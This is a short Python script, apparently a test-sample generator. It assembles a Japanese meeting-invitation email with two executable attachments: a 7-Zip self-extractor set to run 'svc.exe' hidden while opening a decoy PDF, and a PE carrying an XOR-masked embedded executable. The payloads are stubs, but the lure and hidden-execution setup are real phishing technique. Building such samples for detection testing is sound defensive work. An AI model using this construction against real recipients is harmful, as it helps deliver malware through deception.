"""A self-extractor that opens an agenda and starts a program without a window; and a masked load."""
from kit import *


def make():
    config = (b";!@Install@!UTF-8!\r\nTitle=\"agenda\"\r\nGUIMode=\"2\"\r\nRunProgram=\"hidcon:svc.exe\"\r\n"
              b"ExecuteFile=\"\xe4\xbc\x9a\xe8\xad\xb0.pdf\"\r\n;!@InstallEnd@!")
    sfx = Pe().icon(icons.logo())
    sfx.overlay = config + b"7z\xbc\xaf\x27\x1c\0\4" + bytes(100)
    masked = Pe().icon(icons.logo()).resource(10, 1, bytes(b ^ 0x5A for b in Pe().bytes()))
    return (Mail("会議のご案内", "info@example.org").text("会議の資料をお送りします。\n")
            .attach("agenda.exe", sfx.bytes()).attach("viewer.exe", masked.bytes()).bytes())
